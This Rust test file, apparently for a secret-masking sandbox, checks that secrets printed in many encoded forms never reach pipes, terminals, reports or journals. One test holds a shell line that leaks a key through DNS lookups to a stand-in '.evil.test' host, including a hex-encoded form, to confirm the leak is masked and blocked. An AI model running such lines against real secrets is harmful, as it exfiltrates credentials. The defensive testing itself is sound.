//! A thousand random secrets, in every form, in random pieces between random text, through pipes and terminals: none of
//! them comes out anywhere.

use std::fs;
use std::time::Duration;

use opaque_tests::{Ended, Identity, Sandbox, Terminal, each_identity, eventually};

/// Secrets of one run, and runs of each kind for each identity: 2 identities, 2 kinds, 10 runs, 25 secrets.
const SECRETS: usize = 25;
const RUNS: usize = 10;

/// Prints each secret in every form, in random pieces on both streams, and keeps a list of what it printed.
const PRINTS: &str = r#"
import base64, json, os, random, re, shlex, sys, urllib.parse
seed, count, where = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
rnd = random.Random(seed)
secrets = [os.environb[b"S%d" % n] for n in range(count)]

def text():
    return bytes(rnd.choice(b"abc xyz 0123 \n{}[]=.,") for _ in range(rnd.randrange(1, 90)))

def forms(value):
    yield value
    for before in (b"", b"\x01", b"\x01\x02"):
        for alphabet in (base64.b64encode, base64.urlsafe_b64encode):
            whole = alphabet(before + value + bytes(-len(before + value) % 3))
            yield whole
    yield base64.encodebytes(value)
    yield re.sub(rb"(.{64})", rb"\1\n", base64.b64encode(value))
    yield value.hex().encode()
    yield value.hex().upper().encode()
    yield urllib.parse.quote_from_bytes(value, safe="").encode()
    yield re.sub(r"%[0-9A-F]{2}", lambda escape: escape[0].lower(), urllib.parse.quote_from_bytes(value, safe="")).encode()
    try:
        words = value.decode()
    except UnicodeDecodeError:
        pass
    else:
        yield json.dumps(words)[1:-1].encode()
        yield json.dumps(words, ensure_ascii=False)[1:-1].encode()
        yield shlex.quote(words).encode()
    yield b"\x1b[0m".join([value[:5], value[5:]])
    for line in value.split(b"\n"):
        if len(line) >= 8:
            yield line

stream, printed = [b"", b""], []
for value in secrets:
    for form in forms(value):
        out = rnd.randrange(2)
        stream[out] += b" " + text() + b" " + form + b" " + text()
        printed.append(form)
rnd.shuffle(printed)
with open(where, "wb") as file:
    file.write(b"\n".join(form.hex().encode() for form in printed))
while stream[0] or stream[1]:
    out = rnd.randrange(2)
    size = rnd.choice([1, 2, 3, 7, 50, 1000, 5000])
    piece, stream[out] = stream[out][:size], stream[out][size:]
    while piece:
        piece = piece[os.write(1 + out, piece):]
"#;

/// A generator that needs no crate: xorshift, by its usual constants.
struct Random(u64);

impl Random {
    fn from(seed: u64) -> Self {
        Self(seed.wrapping_mul(0x9e37_79b9_7f4a_7c15))
    }

    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }

    fn below(&mut self, bound: usize) -> usize {
        usize::try_from(self.next() % bound as u64).unwrap()
    }

    /// A value of 8 to 4,096 bytes: text of one line or several, UTF-8, or anything but NUL; or a part of another.
    fn value(&mut self, others: &[Vec<u8>]) -> Vec<u8> {
        let length = if self.below(4) == 0 { 8 + self.below(4089) } else { 8 + self.below(120) };
        match self.below(6) {
            0 if !others.is_empty() => {
                let other = &others[self.below(others.len())];
                let start = self.below(other.len() - 7);
                let part = other[start..].iter().take(length).copied().collect::<Vec<u8>>();
                if part.iter().all(|byte| *byte == part[0]) { self.value(&[]) } else { part }
            }
            1 => {
                let word: Vec<char> =
                    (0..length / 4 + 2).map(|_| ['ä', '日', '🔑', 'x', 'ß', '7'][self.below(6)]).collect();
                let mut bytes = word.into_iter().collect::<String>().into_bytes();
                bytes.truncate(4096);
                bytes
            }
            2 => (0..length)
                .map(|at| if at % 40 == 39 { b'\n' } else { b'!' + u8::try_from(self.below(90)).unwrap() })
                .collect(),
            3 => (0..length).map(|_| 1 + u8::try_from(self.below(255)).unwrap()).collect(),
            _ => (0..length).map(|_| b"abcdefghijABCDEFGHIJ0123456789+/=_-"[self.below(35)]).collect(),
        }
    }

    /// Distinct values, none of which ends in a line end or repeats one byte.
    fn values(&mut self) -> Vec<Vec<u8>> {
        let mut values: Vec<Vec<u8>> = Vec::new();
        while values.len() < SECRETS {
            let mut value = self.value(&values);
            while matches!(value.last(), Some(b'\n' | b'\r')) {
                value.pop();
            }
            if value.len() >= 8 && !values.contains(&value) && value.windows(2).any(|pair| pair[0] != pair[1]) {
                values.push(value);
            }
        }
        values
    }
}

fn holds(text: &[u8], form: &[u8]) -> bool {
    memchr::memmem::find(text, form).is_some()
}

/// Which of the forms that were printed stand in what came out.
fn leaked(sandbox: &Sandbox, seed: u64, places: &[(&str, &[u8])]) -> Vec<String> {
    let list = fs::read_to_string(sandbox.project().join("printed")).unwrap();
    let forms: Vec<Vec<u8>> = list.lines().map(unhex).collect();
    assert!(forms.len() > SECRETS * 12, "{}", forms.len());
    let mut found = Vec::new();
    for (place, text) in places {
        for form in &forms {
            let on_terminal = String::from_utf8_lossy(form).contains('\n').then(|| crlf(form));
            if holds(text, form) || on_terminal.is_some_and(|form| holds(text, &form)) {
                found.push(format!("seed {seed}, {place}: {}", form.escape_ascii()));
            }
        }
    }
    found
}

fn crlf(form: &[u8]) -> Vec<u8> {
    form.iter().flat_map(|byte| if *byte == b'\n' { vec![b'\r', b'\n'] } else { vec![*byte] }).collect()
}

fn unhex(line: &str) -> Vec<u8> {
    (0..line.len() / 2).map(|at| u8::from_str_radix(&line[at * 2..at * 2 + 2], 16).unwrap()).collect()
}

/// Keeps the values in files, and says how the command is started with them.
fn start(sandbox: &Sandbox, seed: u64, values: &[Vec<u8>]) -> Vec<String> {
    let mut start = Vec::new();
    for (number, value) in values.iter().enumerate() {
        let path = sandbox.write(sandbox.elsewhere().join(format!("s{number}")), value);
        start.extend(["--secret".to_owned(), format!("S{number}=file:{}", path.display())]);
    }
    sandbox.write("prints.py", PRINTS);
    let command = ["--", "python3", "prints.py", &seed.to_string(), &SECRETS.to_string(), "printed"].map(str::to_owned);
    start.into_iter().chain(command).collect()
}

fn journal(sandbox: &Sandbox) -> Vec<u8> {
    let Ok(files) = fs::read_dir(sandbox.home().join(".local/state/opaque/journal")) else { return Vec::new() };
    files.flat_map(|file| fs::read(file.unwrap().path()).unwrap()).collect()
}

fn seeds(identity: Identity, kind: u64) -> impl Iterator<Item = u64> {
    let first = 1 + kind * 1000 + if identity.is_root() { 0 } else { 500 };
    first..first + RUNS as u64
}

#[test]
fn no_form_of_any_secret_comes_through_a_pipe_or_into_a_record() {
    each_identity(|sandbox| {
        for seed in seeds(sandbox.identity(), 0) {
            let values = Random::from(seed).values();
            let ended = sandbox.run_reporting(start(sandbox, seed, &values));
            ended.expect(0);
            let (report, journal) = (ended.reported().to_string(), journal(sandbox));
            let places: [(&str, &[u8]); 4] = [
                ("standard output", &ended.stdout),
                ("standard error", &ended.stderr),
                ("report", report.as_bytes()),
                ("journal", &journal),
            ];
            assert_eq!(leaked(sandbox, seed, &places), Vec::<String>::new());
            assert!(ended.stdout.len() > 4000 && holds(&ended.stdout, b"***"));
        }
    });
}

#[test]
fn a_name_that_a_command_looks_up_carries_no_secret_into_a_record() {
    each_identity(|sandbox| {
        let value = "Zq9-Lantern-Quartz-4711";
        let path = sandbox.write(sandbox.elsewhere().join("key"), value).display().to_string();
        let (secret, twin) = (format!("KEY=file:{path}"), format!("KEY={value}"));
        let script = "for n in $KEY $(printf %s $KEY | od -An -tx1 | tr -d ' \\n') x$KEY.y; do getent hosts $n.evil.test; done; \
                      getent hosts plain.evil.test; exit 7";
        for network in [&[][..], &["--allow-net", "*.good.test"]] {
            let run = |given: [&str; 2]| sandbox.run_reporting([network, &given, &["--", "sh", "-c", script]].concat());
            let told = |ended: &Ended, journal: &[u8]| {
                let said =
                    [ended.expect(7).reported().to_string().into_bytes(), ended.stderr.clone(), journal.to_vec()];
                let forms = [value.to_lowercase(), value.bytes().map(|byte| format!("{byte:02x}")).collect()];
                said.map(|place| forms.iter().any(|form| holds(&place.to_ascii_lowercase(), form.as_bytes())))
            };
            let before = journal(sandbox).len();
            let ended = run(["--secret", &secret]);
            assert_eq!(told(&ended, &journal(sandbox)[before..]), [false; 3], "{ended}");
            let blocked = ended.reported()["network"]["blocked"].to_string();
            assert!(blocked.contains("***.evil.test") && blocked.contains("x***.y.evil.test"), "{blocked}");
            // What is masked is no name to allow; what is not still is.
            assert!(!blocked.contains("--allow-net *") && blocked.contains("--allow-net plain.evil.test"), "{blocked}");
            let before = journal(sandbox).len();
            let open = run(["--env", &twin]);
            assert_eq!(told(&open, &journal(sandbox)[before..]), [true; 3], "{open}");
        }
    });
}

#[test]
fn no_form_of_any_secret_is_shown_on_a_terminal() {
    each_identity(|sandbox| {
        for seed in seeds(sandbox.identity(), 1) {
            let values = Random::from(seed).values();
            let terminal = Terminal::new(sandbox.identity());
            sandbox
                .launch(start(sandbox, seed, &values))
                .on(&terminal)
                .patience(Duration::from_secs(60))
                .finish()
                .expect(0);
            assert!(eventually(Duration::from_secs(2), || terminal.shown().len() > 4000));
            std::thread::sleep(Duration::from_millis(50));
            assert_eq!(leaked(sandbox, seed, &[("terminal", &terminal.shown())]), Vec::<String>::new());
        }
    });
}

#[test]
fn the_same_search_finds_them_outside() {
    each_identity(|sandbox| {
        let seed = 7;
        let values = Random::from(seed).values();
        let words = start(sandbox, seed, &values);
        let command = words.into_iter().skip_while(|word| word != "--").skip(1);
        let mut launch = sandbox.launch_outside(command);
        for (number, value) in values.iter().enumerate() {
            launch =
                launch.env(format!("S{number}"), std::os::unix::ffi::OsStrExt::from_bytes(value) as &std::ffi::OsStr);
        }
        let ended = launch.finish();
        ended.expect(0);
        let both = [ended.stdout.as_slice(), &ended.stderr].concat();
        assert!(leaked(sandbox, seed, &[("outside", &both)]).len() > SECRETS * 10);
    });
}
